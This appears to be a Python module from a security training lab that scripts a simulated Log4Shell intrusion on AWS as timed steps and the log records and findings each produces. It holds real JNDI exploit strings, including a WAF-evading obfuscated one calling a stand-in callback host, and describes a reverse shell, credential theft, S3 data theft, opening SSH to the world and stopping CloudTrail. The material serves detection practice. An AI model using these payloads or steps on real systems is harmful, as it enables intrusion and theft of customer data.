"""The attack as data: what happens when, and which log or finding tells of it.

Log4Shell (CVE-2021-44228) from the first probe to the end.

Minutes count back from the end of the story and are those of a story of four hours; in a shorter window everything
moves together in proportion. ATT&CK ids: https://attack.mitre.org/techniques/enterprise/cloud/
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Dict, Iterator, List, Mapping, NamedTuple, Tuple

from lab.story import cast

SPAN_MINUTES = 240.0
LOGS = ("waf", "route53_resolver", "vpc_flow", "cloudtrail")
#: Services whose findings tell of it: see `lab.story.findings`.
FINDINGS = ("inspector2", "guardduty", "securityhub")

DENIED = "AccessDenied"
UNAUTHORIZED = "Client.UnauthorizedOperation"


@dataclass(frozen=True)
class Call:
    """One API call with the stolen credentials: what of it CloudTrail records."""

    service: str
    name: str
    #: The IAM action, where it is not ``service:name``.
    action: str = ""
    request: Any = None
    response: Any = None
    error: str = ""
    #: What the call is about, as named in the refusal and in ``resources``.
    resource: str = ""
    read_only: bool = True
    #: S3 object-level calls are data events and carry the number of bytes sent to the caller.
    bytes_out: int = -1


@dataclass(frozen=True)
class Step:
    """One step of the attack in one log, or a finding about it.

    It begins ``minute`` minutes before the end and lasts ``lasts`` minutes.
    """

    name: str
    log: str
    technique: str
    minute: float
    lasts: float
    what: str
    #: CloudTrail: the calls, spread evenly over the step.
    calls: Tuple[Call, ...] = ()
    #: The other logs: what their records say about it.
    facts: Mapping[str, Any] = field(default_factory=dict)


class TimedCall(NamedTuple):
    """A call with its moment, in epoch milliseconds, and the name of its step."""

    time_ms: int
    step: str
    call: Call


def _object(bucket: cast.Bucket, key: str, **more: Any) -> Call:
    request: Dict[str, Any] = {
        "bucketName": bucket.name,
        "Host": f"{bucket.name}.s3.{cast.REGION}.amazonaws.com",
        "key": key,
    }
    return Call("s3", "GetObject", request=request, resource=f"arn:aws:s3:::{bucket.name}/{key}", **more)


_OPEN_SSH = {
    "groupId": cast.BASTION_SECURITY_GROUP,
    "ipPermissions": {
        "items": [
            {
                "ipProtocol": "tcp",
                "fromPort": 22,
                "toPort": 22,
                "groups": {},
                "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0", "description": "temporary"}]},
                "ipv6Ranges": {},
                "prefixListIds": {},
            }
        ]
    },
}
_OPENED_SSH = {
    "requestId": "6f0f3f4e-3d0a-4c57-9a55-b3f4d0a7c0de",
    "_return": True,
    "securityGroupRuleSet": {
        "items": [
            {
                "groupOwnerId": cast.PRODUCTION,
                "groupId": cast.BASTION_SECURITY_GROUP,
                "securityGroupRuleId": "sgr-0c0ffee0c0ffee001",
                "description": "temporary",
                "isEgress": False,
                "ipProtocol": "tcp",
                "fromPort": 22,
                "toPort": 22,
                "cidrIpv4": "0.0.0.0/0",
            }
        ]
    },
}
_EVERYTHING = '{\n  "Version": "2012-10-17",\n  "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]\n}'

TIMELINE: Tuple[Step, ...] = (
    Step(
        "known-vulnerability",
        "inspector2",
        "T1190",
        238,
        1,
        "Inspector reports once more what nobody mended: the library that the exploit is about.",
        facts={"vulnerability": "CVE-2021-44228", "instance": cast.WEB_1.id},
    ),
    Step(
        "probe",
        "waf",
        "T1595.002",
        225,
        20,
        "A scanner tries JNDI look-ups in headers and forms; the managed rule blocks the plain ones.",
        facts={
            "client_ip": cast.ATTACKER_SCANNER_IP,
            "host": cast.SITE,
            "uris": ("/", "/login", "/search", "/api/cart"),
            "headers": ("User-Agent", "X-Api-Version", "Referer"),
            "payload": "${jndi:ldap://" + cast.CALLBACK_HOST + ":1389/a}",
            "action": "BLOCK",
        },
    ),
    Step(
        "exploit",
        "waf",
        "T1190",
        190,
        1,
        "The same look-up, disguised, in the user name of the login form passes.",
        facts={
            "client_ip": cast.ATTACKER_SCANNER_IP,
            "host": cast.SITE,
            "uris": ("/login",),
            "headers": (),  # it is in the query string
            "payload": "${${lower:j}ndi:${lower:l}dap://" + cast.CALLBACK_HOST + ":1389/Login}",
            "action": "ALLOW",
        },
    ),
    Step(
        "callback-lookup",
        "route53_resolver",
        "T1071.004",
        189.9,
        1,
        "The web server resolves the host of the look-up.",
        facts={"instance": cast.WEB_1.id, "query_name": cast.CALLBACK_HOST + ".", "answer": cast.CALLBACK_IP},
    ),
    Step(
        "callback-ldap",
        "vpc_flow",
        "T1105",
        189.8,
        1,
        "It fetches a class over LDAP and runs it.",
        facts={"eni": cast.WEB_1.eni, "from": cast.WEB_1.private_ip, "to": cast.CALLBACK_IP, "port": 1389},
    ),
    Step(
        "reverse-shell",
        "vpc_flow",
        "T1059.004",
        189.5,
        160,
        "The class opens a shell to the attacker's server.",
        facts={"eni": cast.WEB_1.eni, "from": cast.WEB_1.private_ip, "to": cast.CALLBACK_IP, "port": 4444},
    ),
    Step(
        "callback-finding",
        "guardduty",
        "T1071.004",
        180,
        1,
        "GuardDuty reports the look-up of a known command-and-control host.",
        facts={
            "type": "Backdoor:EC2/C&CActivity.B!DNS",
            "severity": 8.0,
            "instance": cast.WEB_1.id,
            "domain": cast.CALLBACK_HOST,
            "since": "callback-lookup",
        },
    ),
    Step(
        "credentials-used-outside",
        "cloudtrail",
        "T1552.005",
        150,
        3,
        "The credentials of the instance role, read from the metadata service, are tried from elsewhere.",
        calls=(
            Call("sts", "GetCallerIdentity"),
            Call("s3", "ListBuckets", request={"Host": f"s3.{cast.REGION}.amazonaws.com"}),
        ),
    ),
    Step(
        "exfiltration-finding",
        "guardduty",
        "T1552.005",
        140,
        1,
        "GuardDuty reports the use of instance credentials from outside AWS.",
        facts={
            "type": "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
            "severity": 8.0,
            "instance": cast.WEB_1.id,
            "address": cast.ATTACKER_CLOUD_IP,
            "since": "credentials-used-outside",
            "again": (60, 48),
        },
    ),
    Step(
        "discovery",
        "cloudtrail",
        "T1580",
        146,
        12,
        "What can these credentials do? Mostly look at EC2; IAM and secrets are refused.",
        calls=(
            Call("iam", "ListUsers", error=DENIED, resource=f"arn:aws:iam::{cast.PRODUCTION}:user/"),
            Call("iam", "ListRoles", error=DENIED, resource=f"arn:aws:iam::{cast.PRODUCTION}:role/"),
            Call("iam", "GetAccountAuthorizationDetails", error=DENIED, resource="*"),
            Call("iam", "ListAttachedRolePolicies", error=DENIED, resource=cast.WEB_ROLE.arn),
            Call("ec2", "DescribeInstances", request={"instancesSet": {}, "filterSet": {}}),
            Call("ec2", "DescribeSecurityGroups", request={"securityGroupSet": {}, "securityGroupIdSet": {}}),
            Call("ec2", "DescribeVpcs", request={"vpcSet": {}, "filterSet": {}}),
            Call("secretsmanager", "ListSecrets", error=DENIED, resource="*"),
            Call("secretsmanager", "GetSecretValue", error=DENIED, resource=cast.DATABASE_SECRET_ARN),
            Call("cloudtrail", "DescribeTrails", request={"trailNameList": []}),
            Call("cloudtrail", "GetTrailStatus", request={"name": cast.TRAIL_ARN}),
            Call("lambda", "ListFunctions20150331", action="lambda:ListFunctions", error=DENIED, resource="*"),
        ),
    ),
    Step(
        "customer-data-read",
        "cloudtrail",
        "T1530",
        120,
        70,
        "The exports of the customer data are listed and read, object by object.",
        calls=(
            Call(
                "s3",
                "ListObjects",
                request={
                    "bucketName": cast.CUSTOMERS.name,
                    "Host": f"{cast.CUSTOMERS.name}.s3.{cast.REGION}.amazonaws.com",
                    "list-type": "2",
                    "prefix": "export/",
                },
                resource=f"arn:aws:s3:::{cast.CUSTOMERS.name}",
                bytes_out=9731,
            ),
            *(
                _object(cast.CUSTOMERS, key, bytes_out=48_000_000 + 131_071 * number)
                for number, key in enumerate(cast.CUSTOMERS.keys)
            ),
        ),
    ),
    Step(
        "data-finding",
        "guardduty",
        "T1530",
        100,
        1,
        "GuardDuty reports an unusual number of objects read by an unusual caller.",
        facts={
            "type": "Exfiltration:S3/AnomalousBehavior",
            "severity": 8.0,
            "bucket": cast.CUSTOMERS.name,
            "address": cast.ATTACKER_CLOUD_IP,
            "since": "customer-data-read",
            "again": (55, 36),
        },
    ),
    Step(
        "sequence-finding",
        "guardduty",
        "T1530",
        90,
        1,
        "GuardDuty puts the two together: an attack sequence.",
        facts={
            "type": "AttackSequence:S3/CompromisedData",
            "severity": 9.5,
            "of": ("exfiltration-finding", "data-finding"),
            "bucket": cast.CUSTOMERS.name,
            "address": cast.ATTACKER_CLOUD_IP,
            "since": "credentials-used-outside",
        },
    ),
    Step(
        "backups-refused",
        "cloudtrail",
        "T1530",
        48,
        6,
        "The database backups are out of reach.",
        calls=tuple(_object(cast.BACKUPS, key, error=DENIED, bytes_out=0) for key in cast.BACKUPS.keys[:5]),
    ),
    Step(
        "door-opened",
        "cloudtrail",
        "T1562.007",
        26,
        1,
        "SSH to the bastion is opened to the world, as a way back.",
        calls=(
            Call(
                "ec2",
                "AuthorizeSecurityGroupIngress",
                request=_OPEN_SSH,
                response=_OPENED_SSH,
                read_only=False,
            ),
        ),
    ),
    Step(
        "door-finding",
        "securityhub",
        "T1562.007",
        24,
        1,
        "A control of Security Hub fails: SSH is open to the world.",
        facts={"control": "EC2.13", "group": cast.BASTION_SECURITY_GROUP},
    ),
    Step(
        "privilege-attempts",
        "cloudtrail",
        "T1098",
        22,
        9,
        "New keys, a policy that allows everything, new instances: all refused.",
        calls=(
            Call(
                "iam",
                "CreateAccessKey",
                error=DENIED,
                resource=f"arn:aws:iam::{cast.PRODUCTION}:user/서연.정",
                read_only=False,
            ),
            Call(
                "iam",
                "CreateUser",
                error=DENIED,
                resource=f"arn:aws:iam::{cast.PRODUCTION}:user/support",
                read_only=False,
            ),
            Call(
                "iam",
                "PutRolePolicy",
                request={"roleName": cast.WEB_ROLE.name, "policyName": "tmp", "policyDocument": _EVERYTHING},
                error=DENIED,
                resource=cast.WEB_ROLE.arn,
                read_only=False,
            ),
            Call(
                "ec2",
                "RunInstances",
                request={
                    "instancesSet": {"items": [{"imageId": "ami-0c0ffee0c0ffee001", "minCount": 4, "maxCount": 4}]},
                    "instanceType": "g5.12xlarge",
                    "blockDeviceMapping": {},
                    "monitoring": {"enabled": False},
                    "disableApiTermination": False,
                },
                error=UNAUTHORIZED,
                resource=f"arn:aws:ec2:{cast.REGION}:{cast.PRODUCTION}:instance/*",
                read_only=False,
            ),
            Call(
                "sts",
                "AssumeRole",
                error=DENIED,
                resource=cast.AUDIT_ROLE.arn,
            ),
        ),
    ),
    Step(
        "traces-covered",
        "cloudtrail",
        "T1562.008",
        10,
        4,
        "The account's own trail is stopped; deleting it is refused. The organisation's trail goes on.",
        calls=(
            Call("cloudtrail", "StopLogging", request={"name": cast.TRAIL_ARN}, read_only=False),
            Call("cloudtrail", "DeleteTrail", error=DENIED, resource=cast.TRAIL_ARN, read_only=False),
            Call("cloudtrail", "PutEventSelectors", error=DENIED, resource=cast.TRAIL_ARN, read_only=False),
            Call(
                "guardduty",
                "DeleteDetector",
                request={"detectorId": cast.DETECTOR},
                error=DENIED,
                resource=cast.DETECTOR_ARN,
                read_only=False,
            ),
        ),
    ),
    Step(
        "trail-finding",
        "guardduty",
        "T1562.008",
        5,
        1,
        "GuardDuty reports that the trail was stopped, as something small.",
        facts={
            "type": "Stealth:IAMUser/CloudTrailLoggingDisabled",
            "severity": 2.0,
            "address": cast.ATTACKER_CLOUD_IP,
            "since": "traces-covered",
        },
    ),
)


def moment_ms(minute: float, start_ms: int, end_ms: int) -> int:
    """Return when a step's ``minute`` is in a story from ``start_ms`` to ``end_ms``, in epoch milliseconds."""
    span_ms = min(end_ms - start_ms, SPAN_MINUTES * 60_000)
    return end_ms - round(span_ms * minute / SPAN_MINUTES)


def requests(step: Step) -> List[Tuple[str, str]]:
    """Return the requests of a step of the WAF's log: the URI, and the header that holds the payload (none if "")."""
    return [(uri, header) for uri in step.facts["uris"] for header in step.facts["headers"] or ("",)]


def calls(start_ms: int, end_ms: int) -> Iterator[TimedCall]:
    """Yield the CloudTrail calls of the attack with their moments, step by step."""
    for step in TIMELINE:
        for number, call in enumerate(step.calls):
            minute = step.minute - step.lasts * number / len(step.calls)
            yield TimedCall(moment_ms(minute, start_ms, end_ms), step.name, call)
